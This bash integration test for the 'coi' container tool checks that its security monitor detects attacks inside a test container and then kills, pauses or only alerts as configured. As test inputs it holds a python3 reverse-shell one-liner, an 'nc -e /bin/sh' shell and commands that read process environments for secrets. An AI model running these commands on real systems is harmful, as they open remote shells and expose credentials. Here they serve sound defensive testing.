#!/bin/bash
# SPDX-License-Identifier: MIT
# The monitor through a real session: `coi run` (with no configuration at all: the monitor is on
# by default) starts the supervisor with every [monitoring] key on its command line; a reverse shell played inside is
# the monitor's own detection. CRITICAL: the container is gone, its network rules removed by the
# monitor (coi itself is stopped meanwhile, so its own teardown cannot be what removed them), the
# audit log has the finding, forensics_on_kill = true left a stopped copy that coi list and coi
# clean leave alone until --forensics (false: none). reverse_shell_one_liners = "warn" only warns,
# "off" ignores. The supervisor ends with coi kill, and with kill -9 of coi + coi clean --orphans.
# Audit retention removes old logs. auto_kill_on_critical = false and auto_pause_on_high = false
# only alert. Containers are coi-t-monkeys-* (COI_CONTAINER_PREFIX).
# Keys whose effect this file shows (src/config/keys.c names it as their proof): monitoring.enabled,
# monitoring.auto_pause_on_high, monitoring.auto_kill_on_critical,
# monitoring.forensics_on_kill, monitoring.reverse_shell_one_liners, monitoring.poll_interval_sec,
# monitoring.audit_log_retention_days.
. "$(dirname "$0")/monitor-lib.sh"
export COI_CONTAINER_PREFIX=coi-t-monkeys-
tmp=$(mktemp -d /tmp/coi-t-monkeys-XXXX)
t_defer "rm -rf '$tmp'"
t_defer "chattr -R -i '$tmp'" # a session that was cut short leaves its protected paths immutable

oneliner="python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"$GW\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"
netcat="(sleep 5 | nc -l -p 4444 >/dev/null &); usleep 300000; nc -e /bin/sh 127.0.0.1 4444"

rules() { nft list ruleset 2>/dev/null | grep -c "coi:$1"; }
# The supervisor of NAME, found by its command line.
sup_pid() { t_supervisor_pid "$1"; }
# wait_gone PID: up to 10 s for the process to end.
wait_gone() {
    for _ in $(seq 100); do kill -0 "$1" 2>/dev/null || return 0; sleep 0.1; done
    return 1
}
t_unlike() { if [[ "$2" =~ $3 ]]; then _t_result 1 "$1"; t_diag "got: '$2'"; else _t_result 0 "$1"; fi; }
copies() { incus list "coi-forensics-$1-" -c n -f csv 2>/dev/null; }

# start CASE CONFIG: a long session of its own workspace with CONFIG as the user config; sets
# name, pid (coi run's own) and spid (the supervisor's). Returns non-zero when it is not up.
start() {
    local ws=$tmp/$1
    mkdir -p "$ws" && git -C "$ws" init -q
    printf '%s\n' "$2" >"$tmp/$1.toml"
    name="${COI_CONTAINER_PREFIX}$(printf '%s' "$ws" | sha256sum | cut -c1-8)-1"
    t_defer "incus delete -f $name"
    t_defer "copies $name | xargs -r -n1 incus delete -f"
    t_defer "'$COI' monitor '$name' --stop"
    (cd "$ws" && exec env COI_CONFIG="$tmp/$1.toml" "$COI" run --image "$T_IMAGE" -- sleep 60 \
        >"$tmp/$1.out" 2>&1) &
    pid=$!
    # on a bail-out: a session ended by a signal tears itself down
    t_defer "kill -CONT $pid; kill -TERM $pid && for _ in \$(seq 100); do kill -0 $pid || break; sleep 0.1; done"
    t_wait_running "$name" || return 1
    # one process with that command line, and the pid file names it (not the parent that forks)
    spid=
    for _ in $(seq 100); do
        p=$(sup_pid "$name")
        [ -n "$p" ] && [ "$(echo $p | wc -w)" = 1 ] &&
            [ "$p" = "$(cat "$COI_HOME/run/$name.pid" 2>/dev/null)" ] && { spid=$p; break; }
        sleep 0.1
    done
    [ -n "$spid" ] || return 1
    # stubs for the interpreters (the tiny image has none), as in monitor-lib.sh
    incus exec "$name" -- sh -c "mkdir -p /usr/bin && for s in $STUBS; do printf '#!/bin/sh\nusleep 300000\n' >/usr/bin/\$s && chmod 755 /usr/bin/\$s || exit 1; done"
}
# wait_exit: up to 20 s for coi run to end.
wait_exit() {
    for _ in $(seq 200); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
    ! kill -0 "$pid" 2>/dev/null && wait "$pid" 2>/dev/null
    return 0
}

# ---- CRITICAL, forensics_on_kill = true; retention ----

mkdir -p "$COI_HOME/audit"
echo '{}' >"$COI_HOME/audit/coi-t-monkeys-old.jsonl"
touch -d '3 days ago' "$COI_HOME/audit/coi-t-monkeys-old.jsonl"
echo '{}' >"$COI_HOME/audit/coi-t-monkeys-fresh.jsonl"
start critical '[monitoring]
enabled = true
forensics_on_kill = true
poll_interval_sec = 1
audit_log_retention_days = 1' || t_bail "the monitored session did not come up ($(tail -c 600 "$tmp/critical.out"))"
t_ok "critical: the session runs its supervisor" test -n "$spid"
cmd=$(tr '\0' ' ' <"/proc/$spid/cmdline")
t_like "critical: every key is on its command line" "$cmd" \
    "^coi monitor $name --daemon --forensics --one-liners critical --poll-interval 1 --read-threshold-mb 50 --read-rate-mb 10 --audit-retention-days 1 --max-processes 1000 --spawn-threshold 200 --dns-threshold 100 --export-level warning --gtfobins-dir $COI_HOME/gtfobins --sigma-dir $COI_HOME/sigma --dns-fds 3,4 --dns-upstream [0-9.]+ --dns-client [0-9.]+ --dns-mode restricted --dns-min-ttl 60 $"
t_fails "retention: a log last written 3 days ago is removed" test -e "$COI_HOME/audit/coi-t-monkeys-old.jsonl"
t_ok "retention: a recent one is kept" test -e "$COI_HOME/audit/coi-t-monkeys-fresh.jsonl"
t_ok "critical: the session has network rules" test "$(rules "$name")" -gt 0
# coi stands still, so only the monitor can remove the rules and the container
kill -STOP "$pid"
# (first, on its own: the monitor reads the one-liner inside a `sh -c` and freezes the container
# before that shell runs anything)
m_run "$name" "echo attacker-was-here >/var/coi-t-evidence"
m_run "$name" "$oneliner"
t_ok "critical: the container is gone" m_wait_state "$name" ""
t_is "critical: the monitor removed its network rules" "$(rules "$name")" 0
line=$(m_wait_rule "$name" revshell-oneliner)
t_like "critical: the audit line, killed, naming the copy" "$line" \
    "\"level\":\"critical\".*kept as 'coi-forensics-$name-[0-9]{8}-[0-9]{6}'.*\"action\":\"killed\""
copy=$(copies "$name")
t_like "critical: a forensics copy exists" "$copy" "^coi-forensics-$name-[0-9]{8}-[0-9]{6}$"
t_is "critical: the copy is stopped" "$(m_state "$copy")" STOPPED
t_is "critical: it holds what the attacker wrote" \
    "$(incus file pull "$copy/var/coi-t-evidence" - 2>/dev/null)" attacker-was-here
t_ok "critical: the supervisor ended by itself" wait_gone "$spid"
kill -CONT "$pid"
wait_exit
t_fails "critical: coi run ended" kill -0 "$pid"
out=$(COI_CONTAINER_PREFIX=coi- "$COI" list --json 2>&1)
t_is "coi list leaves the copy out" "$(printf '%s' "$out" | grep -c "coi-forensics-$name")" 0
out=$(COI_CONTAINER_PREFIX=coi- "$COI" clean --dry-run 2>&1)
t_is "coi clean leaves it alone" "$(printf '%s' "$out" | grep -c "coi-forensics-$name")" 0
t_like "coi clean --forensics --dry-run names it" "$("$COI" clean --forensics --dry-run 2>&1)" \
    "would remove $copy \\(forensics copy\\)"
t_ok "coi clean --forensics removes it" "$COI" clean --forensics
t_is "the copy is gone" "$(copies "$name")" ""

# ---- CRITICAL, no configuration at all: the monitor is on by default, and kills ----

start nocopy '' || t_bail "the second monitored session did not come up ($(tail -c 600 "$tmp/nocopy.out"))"
cmd=$(tr '\0' ' ' <"/proc/$spid/cmdline")
t_unlike "default: the supervisor monitors (no --timer-only)" "$cmd" "--timer-only"
t_unlike "default: HIGH pauses, CRITICAL kills" "$cmd" "--no-pause|--no-kill"
t_unlike "nocopy: no --forensics on the supervisor's command line" "$cmd" "--forensics"
t_like "nocopy: the default poll interval, 2 s" "$cmd" "--poll-interval 2 "
m_run "$name" "$netcat"
t_ok "nocopy: the container is gone" m_wait_state "$name" ""
t_like "nocopy: the audit line" "$(m_wait_rule "$name" revshell-netcat)" '"level":"critical".*"action":"killed"'
t_is "nocopy: no forensics copy" "$(copies "$name")" ""
t_is "nocopy: no network rules left" "$(rules "$name")" 0
t_ok "nocopy: the supervisor ended" wait_gone "$spid"
wait_exit

# ---- auto_kill_on_critical = false, auto_pause_on_high = false: findings are only alerted ----

start noact '[monitoring]
enabled = true
auto_pause_on_high = false
auto_kill_on_critical = false' || t_bail "the noact session did not come up"
t_like "noact: --no-pause --no-kill on the supervisor's command line" \
    "$(tr '\0' ' ' <"/proc/$spid/cmdline")" " --no-pause --no-kill "
m_run "$name" "$netcat"
t_like "noact: a reverse shell is CRITICAL, only alerted" "$(m_wait_rule "$name" revshell-netcat)" \
    '"level":"critical".*"action":"alerted"'
m_run "$name" "cat /proc/1/environ"
t_like "noact: reading init's environment is HIGH, only alerted" "$(m_wait_rule "$name" env-proc-environ)" \
    '"level":"high".*"action":"alerted"'
sleep 1
t_is "noact: the container keeps running" "$(m_state "$name")" RUNNING
t_ok "noact: coi kill" "$COI" kill "$name"
t_ok "noact: the container is gone" m_wait_state "$name" ""
t_ok "noact: the supervisor is gone" wait_gone "$spid"
wait_exit

# ---- reverse_shell_one_liners = "warn"; coi kill ----

start warn '[monitoring]
enabled = true
reverse_shell_one_liners = "warn"' || t_bail "the warn session did not come up"
m_run "$name" "$oneliner"
t_like "warn: the one-liner is a warning, alerted" "$(m_wait_rule "$name" revshell-oneliner)" \
    '"level":"warning".*"action":"alerted"'
sleep 1
t_is "warn: the container stays" "$(m_state "$name")" RUNNING
t_ok "warn: coi kill" "$COI" kill "$name"
t_ok "warn: coi kill: the supervisor is gone" wait_gone "$spid"
t_ok "warn: the container is gone" m_wait_state "$name" ""
t_is "warn: no network rules left" "$(rules "$name")" 0
wait_exit

# ---- reverse_shell_one_liners = "off"; kill -9 coi, coi clean --orphans ----

start off '[monitoring]
enabled = true
reverse_shell_one_liners = "off"' || t_bail "the off session did not come up"
m_run "$name" "$oneliner"
m_run "$name" "env | grep -i secret"
t_ok "off: the monitor still watches (a later warning is logged)" m_wait_rule "$name" env-dump-grep
t_is "off: the one-liner is ignored" "$(m_audit "$name" | grep -c revshell-oneliner)" 0
t_is "off: the container stays" "$(m_state "$name")" RUNNING
kill -9 "$pid"
wait "$pid" 2>/dev/null
t_ok "off: after kill -9 of coi the supervisor still watches" kill -0 "$spid"
t_ok "off: coi clean --orphans" "$COI" clean --orphans
t_ok "off: coi clean --orphans: the supervisor is gone" wait_gone "$spid"
t_ok "off: the container is gone" m_wait_state "$name" ""
t_is "off: no network rules left" "$(rules "$name")" 0

t_done
